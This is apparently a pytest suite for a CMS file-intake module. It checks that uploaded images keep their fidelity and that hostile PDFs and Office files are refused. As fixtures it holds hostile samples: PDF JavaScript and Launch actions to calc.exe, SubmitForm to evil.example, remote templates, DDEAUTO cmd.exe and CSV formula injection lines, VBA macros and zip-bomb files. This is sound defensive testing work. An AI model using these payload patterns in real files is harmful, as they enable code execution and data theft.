"""The one door for files: nothing is lost that the eye sees, nothing dangerous comes in, nothing runs for ever."""

import signal
import time
import zipfile
from io import BytesIO

import pillow_heif
import pytest
from django.core.exceptions import ValidationError
from django.core.files.base import ContentFile
from PIL import Image, ImageCms
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from cms.media.intake import process
from cms.media.intake.documents import take_document
from cms.media.intake.taking import PICTURES, SUFFIXES, take
from tests.support.making import make_pdf

N, T = NameObject, TextStringObject
DOCX = "word/document.xml"


def taken(content: bytes, name="a.bin", kinds=tuple(SUFFIXES), **options):
    return take(ContentFile(content, name=name), kinds, **options)


def refused(content: bytes, name="a.bin") -> str:
    with pytest.raises(ValidationError) as error:
        taken(content, name)
    assert str(error.value.messages[0])
    return error.value.code


def encoded(picture: Image.Image, kind="PNG", **options) -> bytes:
    output = BytesIO()
    picture.save(output, kind, **options)
    return output.getvalue()


def opened(content: bytes, **options) -> Image.Image:
    file = taken(content, "a.png", PICTURES, **options).file
    file.seek(0)
    return Image.open(BytesIO(file.read()))


# Pictures


def slope(mode: str) -> Image.Image:
    picture = Image.new(mode, (256, 16))
    top = 257 if mode == "I;16" else 1
    picture.putdata([x * top for _y in range(16) for x in range(256)])
    return picture


@pytest.mark.parametrize("anew", [True, False])
@pytest.mark.parametrize("mode", ["L", "I;16"])
def test_every_grey_step_stays(mode, anew):
    assert len(opened(encoded(slope(mode)), anew=anew).convert("L").getcolors()) == 256


def half_transparent(mode: str) -> Image.Image:
    picture = Image.new("RGBA", (40, 40), (200, 30, 30, 255))
    picture.paste((0, 0, 0, 0), (0, 0, 20, 40))
    return picture.quantize(8) if mode == "P" else picture.convert(mode)


@pytest.mark.parametrize("kind", ["PNG", "WEBP"])
@pytest.mark.parametrize("mode", ["RGBA", "LA", "P"])
def test_what_is_transparent_stays_so(mode, kind):
    shown = opened(encoded(half_transparent(mode), kind, lossless=True), anew=True).convert("RGBA")
    assert [shown.getpixel((x, 20))[3] for x in (5, 35)] == [0, 255]


def test_one_transparent_colour_stays_transparent():
    picture = Image.new("RGB", (40, 40), "white")
    picture.paste("red", (0, 0, 20, 40))
    shown = opened(encoded(picture, transparency=(255, 255, 255)), anew=True).convert("RGBA")
    assert [shown.getpixel((x, 20))[3] for x in (5, 35)] == [255, 0]


@pytest.mark.parametrize("anew", [True, False])
def test_a_colour_profile_stays(anew):
    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    content = encoded(Image.new("RGB", (40, 40)), "JPEG", icc_profile=profile)
    assert opened(content, anew=anew).info["icc_profile"] == profile


def test_colours_for_print_become_colours_of_screens():
    shown = opened(encoded(Image.new("CMYK", (40, 40), (0, 255, 255, 0)), "JPEG"), anew=True)
    red, green, blue = shown.convert("RGB").getpixel((20, 20))
    assert (shown.mode, red > 200, green < 60, blue < 60) == ("RGB", True, True, True)


@pytest.mark.parametrize("orientation", range(1, 9))
@pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
def test_a_photograph_stands_upright(kind, orientation):
    exif = Image.Exif()
    exif[0x0112] = orientation
    shown = opened(encoded(Image.new("RGB", (60, 40)), kind, exif=exif), anew=True)
    assert shown.size == ((60, 40) if orientation < 5 else (40, 60))
    assert not shown.getexif()


@pytest.mark.parametrize("orientation", [1, 3, 6, 8])
def test_heic_becomes_an_upright_jpeg(orientation):
    picture = Image.new("RGB", (64, 32), "red")
    picture.paste("blue", (0, 0, 32, 32))
    output = BytesIO()
    exif = Image.Exif()
    exif[0x0112] = orientation
    pillow_heif.from_pillow(picture).save(output, exif=exif.tobytes())
    result = taken(output.getvalue(), "IMG_1.HEIC", PICTURES)
    assert (result.kind, result.file.name) == ("image/jpeg", "IMG_1.jpg")
    with Image.open(result.file) as shown:
        assert shown.size == ((64, 32) if orientation in {1, 3} else (32, 64))
        corners = [shown.getpixel(point) for point in ((2, 2), (shown.width - 3, shown.height - 3))]
    is_blue_first = orientation in {1, 6}
    assert (corners[0][2] > corners[0][0], corners[1][2] > corners[1][0]) == (
        is_blue_first,
        not is_blue_first,
    )


def test_a_drawing_stays_sharp():
    picture = Image.new("RGB", (64, 64), "white")
    for x in range(0, 64, 2):
        picture.paste("red", (x, 0, x + 1, 64))
    shown = opened(encoded(picture, "WEBP", lossless=True), anew=True)
    assert shown.convert("RGB").tobytes() == picture.tobytes()


def test_a_large_photograph_is_kept_with_sixteen_megapixels():
    result = taken(encoded(Image.new("L", (6000, 5000)), "JPEG"), "a.jpg", PICTURES)
    width, height = result.size
    assert 15_500_000 < width * height <= 16_000_000
    assert width / height == pytest.approx(1.2, rel=0.01)


@pytest.mark.parametrize("kind", ["GIF", "PNG", "WEBP"])
def test_a_moving_picture_is_refused(kind):
    frames = [Image.new("RGB", (20, 20), colour) for colour in ("red", "blue", "green")]
    content = encoded(frames[0], kind, save_all=True, append_images=frames[1:])
    assert refused(content) == "animated"


@pytest.mark.parametrize(
    ("kind", "mode", "size"),
    [
        ("PNG", "RGBA", (4100, 4000)),
        ("WEBP", "RGB", (4100, 3000)),
        ("GIF", "P", (4100, 4000)),
        ("PNG", "1", (9000, 8000)),
    ],
)
def test_what_would_take_too_much_memory_is_refused_before_it_is_decoded(kind, mode, size):
    assert refused(encoded(Image.new(mode, size), kind)) == "pixels"


def test_a_name_says_what_the_file_is():
    assert taken(encoded(Image.new("RGB", (9, 9)), "WEBP"), "foto.jpg", anew=True).file.name == "foto.webp"


# PDFs


def written(writer: PdfWriter) -> bytes:
    output = BytesIO()
    writer.write(output)
    return output.getvalue()


def action(kind: str, **more) -> DictionaryObject:
    return DictionaryObject({N("/S"): N(kind)} | {N(f"/{key}"): value for key, value in more.items()})


def pdf(change) -> bytes:
    writer = PdfWriter()
    change(writer, writer.add_blank_page(200, 200))
    return written(writer)


def on_opening(kind: str, **more) -> bytes:
    return pdf(lambda writer, page: writer.root_object.update({N("/OpenAction"): action(kind, **more)}))


def in_annotation(**entries) -> bytes:
    mark = DictionaryObject(
        {N("/Type"): N("/Annot")} | {N(f"/{key}"): value for key, value in entries.items()}
    )
    return pdf(lambda writer, page: page.update({N("/Annots"): ArrayObject([writer._add_object(mark)])}))


def in_outline(writer, page):
    script = writer._add_object(action("/JavaScript", JS=T("app.alert(1)")))
    entry = writer._add_object(DictionaryObject({N("/Title"): T("Inhalt"), N("/A"): script}))
    writer.root_object[N("/Outlines")] = DictionaryObject({N("/First"): entry, N("/Last"): entry})


def behind_a_link(writer, page):
    following = writer._add_object(action("/Launch", F=T("cmd.exe")))
    page[N("/AA")] = DictionaryObject({N("/O"): action("/URI", URI=T("https://example.org"), Next=following)})


def named_by_reference(writer, page):
    name = writer._add_object(N("/JavaScript"))
    page[N("/AA")] = DictionaryObject({N("/O"): DictionaryObject({N("/S"): name, N("/JS"): T("1")})})


def with_attachment() -> bytes:
    writer = PdfWriter()
    writer.add_blank_page(200, 200)
    writer.add_attachment("rechnung.exe", b"MZ")
    return written(writer)


def field_with_action(writer, page):
    field = DictionaryObject(
        {N("/T"): T("a"), N("/AA"): DictionaryObject({N("/K"): action("/JavaScript", JS=T("1"))})}
    )
    writer.root_object[N("/AcroForm")] = DictionaryObject(
        {N("/Fields"): ArrayObject([writer._add_object(field)])}
    )


BAD_PDFS = {
    "script in the outline": (pdf(in_outline), "program"),
    "launch behind a link": (pdf(behind_a_link), "program"),
    "script named by reference": (pdf(named_by_reference), "program"),
    "script in a field": (pdf(field_with_action), "program"),
    "script as a stream": (on_opening("/JavaScript", JS=DecodedStreamObject()), "program"),
    "rendition": (on_opening("/Rendition", OP=NumberObject(0)), "program"),
    "launch": (on_opening("/Launch", F=T("calc.exe")), "program"),
    "sends itself": (on_opening("/SubmitForm", F=T("https://evil.example")), "remote"),
    "fetches data": (on_opening("/ImportData", F=T("a.fdf")), "remote"),
    "another file": (on_opening("/GoToR", F=T("\\\\server\\share\\a.pdf")), "remote"),
    "inside another file": (on_opening("/GoToE"), "remote"),
    "file share as a link": (in_annotation(A=action("/URI", URI=T("file://server/share/a"))), "remote"),
    "link that starts a program": (in_annotation(A=action("/URI", URI=T("ms-msdt:/id"))), "remote"),
    "file share before all links": (
        pdf(
            lambda w, p: w.root_object.update({N("/URI"): DictionaryObject({N("/Base"): T("file://srv/a/")})})
        ),
        "remote",
    ),
    "page on a file share": (
        pdf(lambda w, p: p.update({N("/Contents"): DictionaryObject({N("/F"): T("\\\\srv\\a")})})),
        "remote",
    ),
    "script as a link": (in_annotation(A=action("/URI", URI=T("java\nscript:alert(1)"))), "remote"),
    "film": (in_annotation(Subtype=N("/RichMedia")), "program"),
    "attachment": (with_attachment(), "embedded"),
    "attachment on a page": (in_annotation(Subtype=N("/FileAttachment")), "embedded"),
    "form of XFA": (
        pdf(
            lambda w, p: w.root_object.update({N("/AcroForm"): DictionaryObject({N("/XFA"): ArrayObject()})})
        ),
        "program",
    ),
}


@pytest.mark.parametrize(("content", "reason"), BAD_PDFS.values(), ids=BAD_PDFS)
def test_a_pdf_that_does_more_than_show_itself_is_refused(content, reason):
    assert refused(content) == reason


GOOD_PDFS = {
    "link": in_annotation(Subtype=N("/Link"), A=action("/URI", URI=T("https://example.org/a?b=c"))),
    "mail": in_annotation(Subtype=N("/Link"), A=action("/URI", URI=T("mailto:amt@example.org"))),
    "link to a page": in_annotation(Subtype=N("/Link"), A=action("/GoTo", D=T("kapitel"))),
    "broken link of an office program": in_annotation(A=action("/URI", URI=T("file:///C:/Users/a/b.docx"))),
    "form without calculation": pdf(
        lambda w, p: w.root_object.update({N("/AcroForm"): DictionaryObject({N("/Fields"): ArrayObject()})})
    ),
}


@pytest.mark.parametrize("content", GOOD_PDFS.values(), ids=GOOD_PDFS)
def test_an_ordinary_pdf_is_taken(content):
    assert taken(content).facts["pages"] == 1


@pytest.mark.parametrize("algorithm", ["RC4-128", "AES-128", "AES-256"])
def test_only_a_password_for_opening_keeps_a_pdf_out(algorithm):
    def encrypted(opening: str) -> bytes:
        writer = PdfWriter()
        writer.add_blank_page(200, 200)
        writer.encrypt(opening, "eigentum", algorithm=algorithm)
        return written(writer)

    assert refused(encrypted("geheim")) == "password"
    assert taken(encrypted("")).facts["pages"] == 1
    assert refused(encrypted("").replace(b"/Filter /Standard", b"/Filter /Adobe.PubSec")) == "password"


def raw_pdf(*objects: str) -> bytes:
    content, places = b"%PDF-1.4\n", []
    for number, text in enumerate(objects, start=1):
        places.append(len(content))
        content += f"{number} 0 obj\n{text}\nendobj\n".encode()
    table = "".join(f"{place:010} 00000 n \n" for place in places)
    start = len(content)
    size = len(objects) + 1
    end = f"xref\n0 {size}\n0000000000 65535 f \n{table}trailer\n<</Size {size}/Root 1 0 R>>\nstartxref\n{start}\n%%EOF"
    return content + end.encode()


def test_an_object_that_some_viewers_find_and_others_do_not_is_refused():
    root = "<</Type/Catalog/Pages 2 0 R/OpenAction 4 5 R>>"
    script = "<</S/JavaScript/JS(app.alert(1))>>"
    assert refused(raw_pdf(root, "<</Type/Pages/Count 1/Kids[3 0 R]>>", PAGE, script)) == "damaged"


PAGE = "<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"
ROOT = "<</Type/Catalog/Pages 2 0 R>>"
LOOPS = {
    "children of themselves": raw_pdf(ROOT, "<</Type/Pages/Count 9/Kids[2 0 R 2 0 R 2 0 R]>>"),
    "two in a ring": raw_pdf(
        ROOT,
        "<</Type/Pages/Count 9/Kids[3 0 R 3 0 R]>>",
        "<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>",
    ),
    "outline that comes back": raw_pdf(
        "<</Type/Catalog/Pages 2 0 R/Outlines 4 0 R>>",
        "<</Type/Pages/Count 1/Kids[3 0 R]>>",
        PAGE,
        "<</First 5 0 R/Last 5 0 R>>",
        "<</Title(a)/Next 5 0 R/Prev 5 0 R/Parent 4 0 R/First 5 0 R>>",
    ),
    "table of objects that comes back": raw_pdf(ROOT, "<</Type/Pages/Count 0/Kids[]>>").replace(
        b"/Root", b"/Prev 9/Root"
    ),
    "ten thousand brackets": raw_pdf(f"<</Type/Catalog/Pages 2 0 R/X {'[' * 10_000}{']' * 10_000}>>", PAGE),
    "object that is itself": raw_pdf(
        "<</Type/Catalog/Pages 2 0 R/AA 3 0 R>>", "<</Kids[]/Count 0>>", "3 0 R"
    ),
}


@pytest.mark.parametrize("content", LOOPS.values(), ids=LOOPS)
def test_a_pdf_that_leads_back_to_itself_ends_soon(content):
    begin = time.monotonic()
    try:
        taken(content)
    except ValidationError as error:
        assert error.messages
    assert time.monotonic() - begin < 10


def test_a_file_that_never_ends_is_given_up_and_the_next_one_is_read(monkeypatch):
    """Whatever a parser does: its process is ended, and another one takes the next file."""
    monkeypatch.setattr(process, "SECONDS", 1)
    process._reader.stop()
    process._reader._connect()
    process._reader.process.send_signal(signal.SIGSTOP)
    assert refused(make_pdf()) == "costly"
    monkeypatch.undo()
    assert taken(make_pdf()).kind == "application/pdf"


def test_no_more_than_four_files_wait(monkeypatch):
    for _number in range(process.MOST_WAITING):
        assert process._waiting.acquire(blocking=False)
    try:
        assert refused(make_pdf()) == "busy"
    finally:
        process._waiting.release(process.MOST_WAITING)


# Office files

REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def package(parts: dict, main=DOCX) -> bytes:
    output = BytesIO()
    with zipfile.ZipFile(output, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in ({main: "<x/>"} | parts).items():
            archive.writestr(name, content)
    return output.getvalue()


def related(kind: str, target: str, mode=' TargetMode="External"') -> dict:
    return {
        "word/_rels/settings.xml.rels": "<Relationships>"
        f'<Relationship Id="a" Type="{REL}/{kind}" Target="{target}"{mode}/></Relationships>'
    }


def instructions(*pieces: str) -> dict:
    runs = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return {DOCX: f"<w:document {W}><w:p>{runs}</w:p></w:document>"}


def opendocument(content: str, kind="text", **parts: str) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}"
    namespaces = " ".join(
        f'xmlns:{each}="urn:{each}"' for each in ("o", "text", "draw", "xlink", "office", "table", "script")
    )
    return package(
        {"mimetype": mimetype, "content.xml": f"<o:x {namespaces}>{content}</o:x>", **parts}, main="meta.xml"
    )


BAD_PACKAGES = {
    "macro": (package({"word/vbaProject.bin": "x"}), "macro"),
    "macro by its type": (
        package(
            {"[Content_Types].xml": '<T><O ContentType="application/vnd.ms-word.macroEnabled.main+xml"/></T>'}
        ),
        "macro",
    ),
    "macro of Excel 4": (package({"xl/macrosheets/sheet1.xml": "<x/>"}, "xl/workbook.xml"), "macro"),
    "OLE": (package({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"x" * 100}), "embedded"),
    "OLE under another name": (
        package({"word/media/image1.png": b"\xd0\xcf\x11\xe0" + b"x" * 100}),
        "embedded",
    ),
    "program": (package({"word/media/image1.png": b"MZ" + b"x" * 100}), "embedded"),
    "OLE as a relation": (package(related("oleObject", "http://evil.example/a")), "embedded"),
    "template elsewhere": (package(related("attachedTemplate", "http://evil.example/a.dotm")), "remote"),
    "template of a file share": (package(related("attachedTemplate", "file://\\\\server\\a.dotm")), "remote"),
    "picture elsewhere": (package(related("image", "https://evil.example/pixel.png")), "remote"),
    "picture of a file share": (package(related("image", "\\\\server\\share\\a.png")), "remote"),
    "link to a file share": (package(related("hyperlink", "file:///\\\\server\\a.exe")), "remote"),
    "link that starts a program": (package(related("hyperlink", "search-ms:query=a")), "remote"),
    "DDE": (package(instructions('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "dde"),
    "DDE in pieces": (package(instructions(" D", "DE", "AUTO cmd")), "dde"),
    "DDE as numbers": (package(instructions("QUOTE 68 68 69 65 85")), "dde"),
    "DDE with entities": (package({DOCX: f"<a {W}><w:instrText>&#x44;DE cmd</w:instrText></a>"}), "dde"),
    "DDE in UTF-16": (
        package(
            {
                DOCX: f'<?xml version="1.0" encoding="utf-16"?><a {W}><w:instrText>DDE c</w:instrText></a>'.encode(
                    "utf-16"
                )
            }
        ),
        "dde",
    ),
    "DDE as an attribute": (package({DOCX: f'<a {W}><w:fldSimple w:instr="DDE cmd"/></a>'}), "dde"),
    "DDE in a table": (
        package({"xl/worksheets/sheet1.xml": "<s><c><f>cmd|'/c calc'!A1</f></c></s>"}, "xl/workbook.xml"),
        "dde",
    ),
    "DDE link of a table": (
        package({"xl/externalLinks/externalLink1.xml": "<e><ddeLink/></e>"}, "xl/workbook.xml"),
        "dde",
    ),
    "text elsewhere": (package(instructions('INCLUDETEXT "https://evil.example/a.docx"')), "remote"),
    "slide that starts a program": (
        package({"ppt/slides/slide1.xml": '<s><h action="ppaction://program"/></s>'}, "ppt/presentation.xml"),
        "program",
    ),
    "entities": (package({DOCX: '<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}), "damaged"),
    "three packages deep": (
        package({"word/embeddings/a.docx": package({"word/embeddings/b.docx": package({})})}),
        "embedded",
    ),
    "a macro in a table in a text": (
        package({"word/embeddings/a.xlsx": package({"xl/vbaProject.bin": "x"})}),
        "macro",
    ),
    "password": (opendocument("", **{"META-INF/manifest.xml": "<m><encryption-data/></m>"}), "password"),
    "DDE of LibreOffice": (opendocument("<office:dde-source/>"), "dde"),
    "macro of LibreOffice": (opendocument("", **{"Basic/Standard/Module1.xml": "<x/>"}), "macro"),
    "event of LibreOffice": (opendocument("<script:event-listener/>"), "program"),
    "picture elsewhere, LibreOffice": (
        opendocument('<draw:image xlink:href="http://evil.example/a"/>'),
        "remote",
    ),
    "file share, LibreOffice": (opendocument('<text:a xlink:href="file://server/a"/>'), "remote"),
    "OLE of LibreOffice": (opendocument("<draw:object-ole/>"), "embedded"),
    # Made in the test, because every test process loads this module.
    "unpacks to much": (lambda: package({"word/media/a.bin": bytes(210 * 1024 * 1024)}), "unpacks"),
    "deep": (package({DOCX: "<a>" * 2000 + "</a>" * 2000}), "costly"),
}


@pytest.mark.parametrize(("content", "reason"), BAD_PACKAGES.values(), ids=BAD_PACKAGES)
def test_an_office_file_that_runs_hides_or_fetches_something_is_refused(content, reason):
    assert refused(content() if callable(content) else content) == reason


GOOD_PACKAGES = {
    "links": package(related("hyperlink", "https://example.org/?a=b")),
    "mail": package(related("hyperlink", "mailto:amt@example.org")),
    "template on the author's computer": package(
        related("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotx")
    ),
    "part of itself": package(related("image", "media/a.png", "")),
    "chart with its table": package({"word/embeddings/a.xlsx": package({}, "xl/workbook.xml")}),
    "page numbers": package(instructions(" PAGE ", 'TOC \\o "1-3"', 'HYPERLINK "https://example.org"')),
    "formulas": package(
        {"xl/worksheets/s.xml": "<s><f>IF(A1&gt;2,\"a|b!\",SUM('x y'!B2))</f></s>"}, "xl/workbook.xml"
    ),
    "words about DDE": package({DOCX: f"<a {W}><w:t>DDE ist ein altes Protokoll</w:t></a>"}),
    "LibreOffice with a picture": opendocument('<draw:image xlink:href="Pictures/a.png"/>'),
    "LibreOffice with a link": opendocument('<text:a xlink:href="https://example.org"/>'),
}


@pytest.mark.parametrize("content", GOOD_PACKAGES.values(), ids=GOOD_PACKAGES)
def test_an_ordinary_office_file_is_taken(content):
    assert taken(content).kind in SUFFIXES


def test_a_table_as_text_starts_no_program():
    with pytest.raises(ValidationError) as error:
        take_document(ContentFile(b"Name;Ort\n=cmd|'/c calc'!A1;x\n"), "a.csv")
    assert error.value.code == "dde"
    take_document(ContentFile("Name;Größe\n-5|6;=A1+B1\n".encode()), "a.csv")
